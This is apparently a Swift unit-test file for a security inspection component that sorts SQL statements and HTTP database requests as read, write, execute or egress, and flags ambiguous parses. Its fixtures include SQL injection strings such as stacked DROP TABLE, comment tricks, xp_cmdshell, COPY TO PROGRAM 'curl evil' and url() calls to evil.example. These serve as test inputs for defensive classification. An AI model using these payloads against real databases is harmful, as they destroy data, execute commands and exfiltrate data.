// SPDX-License-Identifier: Apache-2.0
import Authorization
import RegoVM
import Testing

@testable import Inspection

@Suite struct StatementTests {
    @Test(arguments: [
        ("SELECT 1", "SELECT read"), ("  -- c\n/* d */ select * from t", "select read"),
        ("SHOW CREATE TABLE t", "SHOW read"), ("(SELECT 1) UNION (SELECT 2)", "SELECT read"),
        ("SELECT 'a; DROP TABLE t'", "SELECT read"),
        ("SELECT \"drop\" FROM `delete`", "SELECT read"),
        ("SELECT replace(a, 'x', 'y') FROM t FOR UPDATE", "SELECT read"),
        ("EXPLAIN DELETE FROM t", "EXPLAIN read"),
        ("EXPLAIN ANALYZE DELETE FROM t", "EXPLAIN write"),
        ("EXPLAIN (ANALYZE) DELETE FROM t", "EXPLAIN write"),
        ("INSERT INTO t VALUES (1)", "INSERT write"), ("delete from t", "delete write"),
        ("SELECT 1; DROP TABLE t", "DROP write"), ("SELECT 1; SELECT 2;", "SELECT read"),
        ("SELECT 1 DROP TABLE t", "SELECT write"),
        ("SELECT 1 EXEC xp_cmdshell 'id'", "SELECT execute"),
        ("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", "WITH write"),
        ("WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x", "WITH write"),
        ("WITH x AS (SELECT 1) SELECT * FROM x", "WITH read"),
        ("SELECT * INTO t2 FROM t", "SELECT write"), ("CALL wipe()", "CALL execute"),
        ("SELECT * FROM url('https://evil.example/x', CSV)", "SELECT egress"),
        ("INSERT INTO FUNCTION remote('h:9000', db.t) SELECT 1", "INSERT egress"),
        ("COPY t TO PROGRAM 'curl evil'", "COPY execute"), ("SYSTEM SHUTDOWN", "SYSTEM execute"),
        ("SELECT load_extension('x')", "SELECT execute"), ("frobnicate t", "frobnicate unknown"),
        ("", " unknown"), ("-- nothing", " unknown"), (";;", " unknown"),
        ("SELECT a->>'b' -- trailing", "SELECT read"), ("SELECT $1", "SELECT read"),
        // Both readings agree.
        (#"SELECT 'it\'s'"#, "SELECT read"), ("SELECT /* a /* b */ c */ 1", "SELECT read"),
        // They do not.
        (#"SELECT '\'; DROP TABLE t; --'"#, "DROP write ambiguous"),
        (#"SELECT '\' ' ; DROP TABLE t; --'"#, "DROP write ambiguous"),
        ("SELECT 1 /* /* */ ; DROP TABLE t -- */ */", "DROP write ambiguous"),
        ("SELECT 1 /*! ; DROP TABLE t */", "DROP write ambiguous"),
        ("SELECT 1 # \n; DROP TABLE t", "DROP write"),
        ("SELECT 1 --1; DROP TABLE t", "DROP write ambiguous"),
        ("SELECT $$ '; $$; DROP TABLE t; -- '", "DROP write ambiguous"),
    ])
    func judged(_ text: String, _ summary: String) {
        let judgement = Statement.judge(SampleRequest.bytes(text))
        let ambiguous = judgement.isAmbiguous ? " ambiguous" : ""
        #expect("\(judgement.verb.string) \(judgement.effect.word)\(ambiguous)" == summary)
    }

    @Test func longTextIsUnknown() {
        let text = "SELECT '" + String(repeating: "x", count: Limits.statementBytes) + "'"
        #expect(Statement.judge(SampleRequest.bytes(text)).effect == .unknown)
    }

    @Test(arguments: [
        ("GET", "/?query=SELECT%201", "", "", "sql select read", "SELECT 1"),
        (
            "POST", "/?query=INSERT+INTO+t+VALUES", "text/plain", "(1); DROP", "sql insert write",
            "INSERT INTO t VALUES"
        ),
        (
            "POST", "/?query=SELECT", "text/plain", "1; DROP TABLE t", "sql drop write",
            "SELECT \n1; DROP TABLE t"
        ),
        (
            "POST", "/_sql?format=json", "application/json", #"{"query":"DELETE FROM t"}"#,
            "sql delete write", "DELETE FROM t"
        ),
        ("POST", "/v1/statement", "text/plain", "SELECT 1", "sql select read", "SELECT 1"),
        ("POST", "/x", "application/sql", "TRUNCATE t", "sql truncate write", "TRUNCATE t"),
        (
            "POST", "/druid/v2/sql", "application/json", #"{"query":"SELECT 1"}"#,
            "sql select read",
            "SELECT 1"
        ),
        (
            "POST", "/db/sql", "application/json", #"["SELECT 1",["DROP TABLE t",1]]"#,
            "sql drop write", "SELECT 1;\nDROP TABLE t"
        ),
    ])
    func requests(
        _ method: String, _ path: String, _ type: String, _ body: String, _ summary: String,
        _ statement: String
    ) {
        let headers = type.isEmpty ? [] : [("content-type", type)]
        let facts = SampleRequest(method, path, headers: headers, body: body).facts
        #expect(facts.summary == summary)
        #expect(facts.arguments["statement"].text.string == statement)
    }

    @Test(arguments: ["/?query=shoes", "/search?q=SELECT", "/?q=", "/sqlx"])
    func whatIsNoSQL(_ path: String) {
        #expect(SampleRequest("GET", path, headers: []).facts.trafficProtocol == .http)
    }

    @Test func clickHouseByItsHeader() {
        let request = SampleRequest(
            headers: [("x-clickhouse-user", "u"), ("content-encoding", "gzip")], body: "\u{1F}")
        #expect(request.facts.summary == "sql  unknown !content_encoding")
        let cursor = SampleRequest("POST", "/_sql", body: #"{"cursor":"x"}"#)
        #expect(cursor.facts.summary == "sql cursor read")
    }

    @Test func urlInAStatementIsADestination() {
        let request = SampleRequest(
            "POST", "/?query=SELECT+*+FROM+url('https://evil.example:8/x',CSV)", headers: [])
        #expect(
            request.facts.value(of: .destinations, in: request.arena).description == """
                [{"argument":"statement","host":"evil.example","internal":false,"port":8,\
                "scheme":"https"}]
                """)
        #expect(request.facts.reachesOutside)
    }
}
